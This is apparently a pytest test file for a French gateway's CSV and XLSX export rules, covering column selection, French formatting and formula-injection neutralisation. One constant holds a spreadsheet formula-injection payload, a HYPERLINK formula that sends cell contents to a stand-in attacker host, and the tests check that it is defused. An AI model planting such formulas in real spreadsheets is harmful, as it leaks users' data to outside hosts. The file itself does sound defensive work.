"""BO-9: the export rules of the gateway (exports.py) without Flask nor RPC: the columns and
their refusals, each cell's writing, formula injection, and both writers read back as a
spreadsheet would (csv module, openpyxl)."""
import csv
import io
from datetime import datetime

import openpyxl
import pytest

from consignations_shared.errors import ValidationFailed
from gateway_service import exports

INJECTED = '=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")'
ROW = {"id": "d1", "number": "102612000000042", "procedure_code": "AM_EXPERTISE_JUD_C",
       "procedure_label": "Alsace-Moselle – consigner les provisions pour frais d'expertises judiciaires",
       "sens": "C", "sens_label": "Consignation", "state": "VALIDATED", "state_label": "Validée",
       "created_at": "2026-01-14T23:30:00+00:00",  # 15 January, 00:30 in Paris (winter)
       "submitted_at": "2026-07-01T12:05:00+00:00",  # 14:05 in Paris (summer)
       "decided_at": "2026-07-03T08:00:00+00:00", "client_name": "Société Générale d'Études",
       "owner_name": "Élodie Dupont", "amount": "1234567.80"}
HEADERS = ["Numéro de demande", "Démarche", "Sens", "État", "Date de création", "Date de soumission",
           "Date de décision", "Client", "Propriétaire", "Montant"]


# --- columns ------------------------------------------------------------------------------------

def test_the_documented_columns_in_their_order_with_french_headers():
    assert list(exports.COLUMNS) == ["number", "procedure", "sens", "state", "created_at", "submitted_at",
                                     "decided_at", "client_name", "owner", "amount"]
    assert [c.header for c in exports.COLUMNS.values()] == HEADERS


@pytest.mark.parametrize("raw", [None, "", " , "])
def test_every_column_by_default(raw):
    assert exports.parse_request("csv", raw) == ("csv", list(exports.COLUMNS.values()))


def test_columns_are_taken_in_the_order_asked_each_once():
    export_format, columns = exports.parse_request("xlsx", " amount,number , amount,client_name")
    assert export_format == "xlsx"
    assert [c.key for c in columns] == ["amount", "number", "client_name"]


def test_an_unknown_column_is_named_in_french():
    with pytest.raises(ValidationFailed) as refused:
        exports.parse_request("csv", "number,assignee")
    assert refused.value.fields == {"columns": "Colonne inconnue : « assignee »."}
    assert refused.value.message == ("Colonne inconnue : « assignee ». Colonnes possibles : number, procedure, sens, "
                                     "state, created_at, submitted_at, decided_at, client_name, owner, amount.")
    with pytest.raises(ValidationFailed) as refused:
        exports.parse_request("csv", "siret,days_used")
    assert refused.value.fields == {"columns": "Colonnes inconnues : « siret », « days_used »."}


@pytest.mark.parametrize("value", [None, "", "pdf", "CSV", "xls"])
def test_the_format_is_csv_or_xlsx(value):
    with pytest.raises(ValidationFailed) as refused:
        exports.parse_request(value, None)
    assert refused.value.fields == {"format": "Format inconnu (csv ou xlsx)."}
    assert refused.value.message == "Choisissez le format de l'export : csv ou xlsx."


def test_format_and_columns_wrong_together():
    with pytest.raises(ValidationFailed) as refused:
        exports.parse_request("ods", "nope")
    assert set(refused.value.fields) == {"format", "columns"}


# --- cells --------------------------------------------------------------------------------------

@pytest.mark.parametrize("text,written", [
    ("=1+2", "'=1+2"), ("+33 6 12", "'+33 6 12"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (INJECTED, "'" + INJECTED),
    ("ACME = SAS", "ACME = SAS"), ("l'=x", "l'=x"), ("", ""), ("Société", "Société"),
])
def test_formula_injection_is_neutralised(text, written):
    assert exports.neutralised(text) == written


def test_cells_in_french():
    columns = exports.COLUMNS
    assert columns["created_at"].read(ROW) == datetime(2026, 1, 15, 0, 30)
    assert columns["submitted_at"].read(ROW) == datetime(2026, 7, 1, 14, 5)
    assert exports.csv_cell(columns["submitted_at"].read(ROW)) == "01/07/2026 14:05"
    assert exports.csv_cell(columns["amount"].read(ROW)) == "1234567,80"
    assert exports.csv_cell(columns["amount"].read({"amount": "TOTAL"})) == "Total"
    assert exports.csv_cell(columns["amount"].read({"amount": None})) == ""
    assert exports.csv_cell(columns["decided_at"].read({"decided_at": None})) == ""
    assert columns["sens"].read(ROW) == "Consignation"  # the label demandes gives
    assert exports.csv_cell(columns["client_name"].read({"client_name": INJECTED})) == "'" + INJECTED


def test_the_file_name_is_in_french_time():
    assert exports.file_name("2026-12-07T13:05:59.9+00:00", "csv") == "demandes-20261207-1405.csv"
    assert exports.file_name("2026-07-31T22:30:00+00:00", "xlsx") == "demandes-20260801-0030.xlsx"


def test_pages_are_fetched_with_each_cursor_until_the_last():
    asked = []
    answers = {"c1": {"items": [{"n": 2}], "next_after": "c2"}, "c2": {"items": [], "next_after": None}}

    def fetch(after):
        asked.append(after)
        return answers[after]

    assert list(exports.pages({"items": [{"n": 1}], "next_after": "c1"}, fetch)) == [[{"n": 1}], [{"n": 2}], []]
    assert asked == ["c1", "c2"]


# --- the files, read back ----------------------------------------------------------------------

def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM
    text = data.decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n")  # every line ends with CRLF
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_csv_reads_back_page_after_page():
    pages = [[ROW, {**ROW, "number": "2", "client_name": INJECTED, "amount": "TOTAL", "decided_at": None}], [],
             [{**ROW, "number": "3", "client_name": "Dupont; Fils \"et\" Cie"}]]
    columns = [exports.COLUMNS[k] for k in ("number", "client_name", "submitted_at", "decided_at", "amount")]
    chunks = list(exports.csv_chunks(columns, pages))
    assert len(chunks) == 3  # the header, then one chunk per page that has rows
    lines = read_csv(b"".join(chunks))
    assert lines == [
        ["Numéro de demande", "Client", "Date de soumission", "Date de décision", "Montant"],
        ["102612000000042", "Société Générale d'Études", "01/07/2026 14:05", "03/07/2026 10:00", "1234567,80"],
        ["2", "'" + INJECTED, "01/07/2026 14:05", "", "Total"],
        ["3", "Dupont; Fils \"et\" Cie", "01/07/2026 14:05", "03/07/2026 10:00", "1234567,80"],
    ]


def test_the_xlsx_has_typed_dates_and_amounts_and_strings_never_formulas():
    rows = [ROW, {**ROW, "number": "2", "client_name": INJECTED, "amount": "TOTAL"},
            {**ROW, "number": "3", "client_name": "+33 1 02 03 04 05", "amount": None, "decided_at": None},
            {**ROW, "number": "4", "client_name": "http://example.com", "amount": "0.10"}]
    with exports.xlsx_file(list(exports.COLUMNS.values()), iter(rows)) as file:
        book = openpyxl.load_workbook(io.BytesIO(file.read()))
    sheet = book["Demandes"]
    assert [c.value for c in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:J5"
    first = {h: c for h, c in zip(HEADERS, sheet[2])}
    assert first["Numéro de demande"].value == "102612000000042" and first["Numéro de demande"].data_type == "s"
    assert first["Date de soumission"].value == datetime(2026, 7, 1, 14, 5) and first["Date de soumission"].is_date
    assert first["Date de soumission"].number_format == "dd/mm/yyyy hh:mm"
    assert first["Montant"].value == 1234567.8 and first["Montant"].data_type == "n"
    assert first["Montant"].number_format == '#,##0.00\\ "€"'
    assert first["Sens"].value == "Consignation" and first["Propriétaire"].value == "Élodie Dupont"
    injected = sheet.cell(row=3, column=HEADERS.index("Client") + 1)
    assert (injected.value, injected.data_type) == (INJECTED, "s")  # a string, not a formula
    assert sheet.cell(row=3, column=10).value == "Total"
    phone = sheet.cell(row=4, column=HEADERS.index("Client") + 1)
    assert (phone.value, phone.data_type) == ("+33 1 02 03 04 05", "s")
    assert sheet.cell(row=4, column=10).value is None and sheet.cell(row=4, column=7).value is None
    assert sheet.cell(row=5, column=8).hyperlink is None  # a URL stays a text
    assert sheet.max_row == 5


def test_an_empty_xlsx_has_its_header():
    with exports.xlsx_file([exports.COLUMNS["number"]], iter([])) as file:
        sheet = openpyxl.load_workbook(io.BytesIO(file.read()))["Demandes"]
    assert [c.value for c in sheet[1]] == ["Numéro de demande"] and sheet.max_row == 1


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    with pytest.raises(ValidationFailed) as refused:
        exports.xlsx_file([exports.COLUMNS["number"]], iter([ROW, ROW, ROW]))
    assert "choisissez le format CSV" in refused.value.message


def test_a_file_is_streamed_then_closed():
    file = io.BytesIO(b"x" * (exports.CHUNK + 1))
    assert [len(c) for c in exports.file_chunks(file)] == [exports.CHUNK, 1]
    assert file.closed
    file = io.BytesIO(b"x" * (exports.CHUNK * 2))
    chunks = exports.file_chunks(file)
    next(chunks)
    chunks.close()  # the client left
    assert file.closed
